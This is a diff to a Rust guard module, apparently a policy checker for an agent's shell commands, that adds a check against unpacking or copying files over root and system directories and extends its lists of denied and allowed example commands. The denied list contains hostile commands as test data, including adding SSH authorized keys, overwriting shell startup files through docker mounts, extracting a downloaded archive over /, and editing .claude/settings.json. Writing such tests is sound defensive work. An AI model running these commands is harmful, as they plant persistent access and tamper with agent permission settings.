@@ -3,6 +3,7 @@
 use super::on_paths::Seen;
 use crate::model::guard::changes::{Change, glob, join};
 use crate::model::guard::paths::files::Reach;
+use crate::model::guard::paths::places::{Depth, Kind};
 use crate::model::guard::paths::{Last, Paths};
 use crate::model::guard::policy::Effect;
 use crate::model::guard::value::Value;
@@ -98,6 +99,29 @@ pub static RULES: &[Rule] = &[Rule {
         "scp key host:.ssh/authorized_keys",
         "yq -i '.a = 1' .claude/settings.json",
         "echo x > ~/.bash$X",
+        "find ~/.claude -type f -exec sed -i s/a/b/ {} +",
+        "echo x | dd of=~/.bashrc",
+        "dasel put -f .claude/settings.json -v x a",
+        "tar -C / -xf x.tar",
+        "tar xzf rootfs.tgz --directory=/",
+        "tar -xPf x.tar",
+        "cd / && tar xf /tmp/x.tar",
+        "curl -s https://example.org/x.tgz | tar -xz -C /",
+        "unzip x.zip -d /",
+        "unzip -o x.zip -d /etc",
+        "cpio -idu -D /etc < x.cpio",
+        "cd / && cpio -id < x.cpio",
+        "rsync -a rootfs/ /",
+        "rsync -a x/ /usr/",
+        "dpkg -x x.deb /",
+        "docker cp c:/out/. ~/.ssh",
+        "docker cp c:/out/settings.json .claude/settings.json",
+        "docker run -v ~/.ssh:/k alpine tee -a /k/authorized_keys",
+        "docker run --mount type=bind,source=/,target=/host alpine sh -c \"echo x >> /host/root/.bashrc\"",
+        "docker run -v \"$PWD\":/w -w /w image sh -c \"echo {} > .claude/settings.json\"",
+        "docker run -v \"$PWD\"/.claude:/c some-image",
+        "ssh-copy-id -i k.pub user@host",
+        "ssh-copy-id localhost",
     ],
     passes: &[
         "cat .claude/settings.json",
@@ -123,6 +147,20 @@ pub static RULES: &[Rule] = &[Rule {
         "tar -cf backup.tar .claude",
         "tar -xf x.tar",
         "tar -xf x.tar -C build",
+        "find .claude -name '*.md' -exec sed -i s/a/b/ {} +",
+        "find . -type f -exec sed -i s/a/b/ {} +",
+        "dasel -f .claude/settings.json a",
+        "tar -C /tmp -xf x.tar",
+        "tar -C /usr/local -xzf go.tar.gz",
+        "tar -C /opt -xzf tool.tgz",
+        "tar -czf etc.tgz -C / etc/hosts",
+        "tar -tf x.tar -C /",
+        "rsync -a dist/ host:/srv/www/",
+        "docker cp c:/out ./out",
+        "docker cp ./x c:/etc/x",
+        "docker run -v ~/.ssh:/root/.ssh:ro image git clone host:x",
+        "docker run -v \"$PWD\":/w -w /w image sh -c \"echo x > notes.md\"",
+        "ssh-copy-id -n user@host",
         "unzip x.zip -d build",
         "echo .bashrc > notes.txt",
         "cat ~/.ssh/authorized_keys",
@@ -152,7 +190,9 @@ pub fn judge(seen: &mut Seen<'_>) {
         Change::Put { path, .. } => (path, Last::Followed, Reach::File, "write"),
         Change::Mode { path, recursive: true, .. } => (path, Last::Followed, Reach::Away, "change the mode of"),
         Change::Mode { path, .. } => (path, Last::Followed, Reach::Mode, "change the mode of"),
+        Change::Hand { path } => (path, Last::Followed, Reach::Away, "be given"),
         Change::Fill { path } => {
+            fill(seen, path);
             for child in ["*", ".*"] {
                 let child = join(path, &glob(child));
                 find(seen, &child, Last::Followed, Reach::File, "put files over");
@@ -162,6 +202,23 @@ pub fn judge(seen: &mut Seen<'_>) {
         Change::Empty { .. } | Change::Elsewhere(_) => return,
     };
     find(seen, path, last, reach, would);
+}
+
+/// Files of names that nobody knows, put over what the system runs and what every shell reads.
+fn fill(seen: &mut Seen<'_>, path: &Value) {
+    for at in seen.locate(path, Last::Followed).iter() {
+        let found = seen.paths.protected_place(at, Depth::Everything).filter(|found| !found.unresolved);
+        let Some(found) = found else { continue };
+        let whole = match found.kind {
+            Kind::Root | Kind::AboveHome => true,
+            // Where others put what they install.
+            Kind::System => at.names.len() == 1 && !at.names.iter().any(|name| name.known() == Some("opt")),
+            _ => false,
+        };
+        if whole {
+            seen.report(ID, "put files over", path, at, found.kind.words());
+        }
+    }
 }
 
 fn find(seen: &mut Seen<'_>, path: &Value, last: Last, reach: Reach, would: &str) {
